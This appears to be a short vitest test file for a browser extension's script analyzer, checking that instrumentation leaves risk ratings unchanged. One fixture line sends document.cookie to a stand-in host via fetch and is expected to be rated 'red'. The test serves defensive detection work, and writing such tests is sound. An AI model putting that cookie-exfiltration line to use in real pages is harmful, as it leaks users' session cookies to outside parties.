import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { programText } from "@scriptorium/test-run/run-program";
import { expect, it } from "vitest";
import { measuredScript } from "./measured-script.ts";

/** The extension rates what it is asked to run, and shows the rating to the person. */
function ratingOf(script: string) {
	const measured = measuredScript(script, { place: "tab" });
	if (!measured.ok) throw new Error(measured.problem.message);
	const { risk_level, vulnerabilities, summary } = analyzeScript({ code: programText(measured.code) });
	return { risk_level, summary, found: vulnerabilities.map(({ type, line }) => `${type} ${line}`) };
}

it("the code that measures does not change the rating of the script", () => {
	expect(ratingOf("document.body.style.color = 'red';")).toMatchObject({ risk_level: "green" });
	expect(ratingOf('fetch("https://collector.example/?" + document.cookie);')).toMatchObject({ risk_level: "red" });
});
